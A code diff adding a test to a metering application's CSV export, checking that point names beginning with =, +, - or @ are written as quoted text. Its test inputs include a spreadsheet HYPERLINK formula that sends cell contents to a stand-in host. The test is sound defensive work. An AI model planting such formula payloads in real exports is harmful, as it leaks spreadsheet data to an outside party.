@@ -1,4 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { sql } from 'drizzle-orm'
 import { storeIntervals, type IntervalRow } from '../../../../src/server/repositories/readings'
 import { CHANNEL, INTERVAL_STATUS } from '../../../../src/shared/metering'
 import { startTestApp, type TestApp } from '../../../helpers/test-app'
@@ -197,5 +198,21 @@ describe('the balance an engineer reads', () => {
     expect(lines[0]).toBe('Дата;Ввод Т-1, кВт·ч;Отходящая линия, кВт·ч;Приём, кВт·ч;Отдача, кВт·ч;Небаланс, кВт·ч;Небаланс, %')
     expect(lines[2]).toBe('02.03.2024 00:00;480;192;480;192;288;60')
     expect(lines.at(-1)).toBe('Итого;1440;568;1440;568;872;60,56')
+  })
+
+  it('writes a name that a spreadsheet would read as a formula as text in the CSV', async () => {
+    const rename = (name: string) => t.database.db.execute(sql`update points set name = ${name} where point_id = ${pointB}`)
+    const header = async () => {
+      const url = `/api/represents/${representId}/points_profile_csv/?beginDate=2024-03-01&endDate=2024-03-01&interval=1440`
+      return (await t.call(t.adminToken, { method: 'GET', url })).body.replace('\uFEFF', '').split('\r\n')[0]!.split(';')
+    }
+    try {
+      for (const name of ['=HYPERLINK("http://x.example/?"&A1)', '+1+1', '-2+3', '@SUM(1)']) {
+        await rename(name)
+        expect((await header())[2], name).toMatch(/^"?'[=+\-@]/)
+      }
+    } finally {
+      await rename('Отходящая линия')
+    }
   })
 })
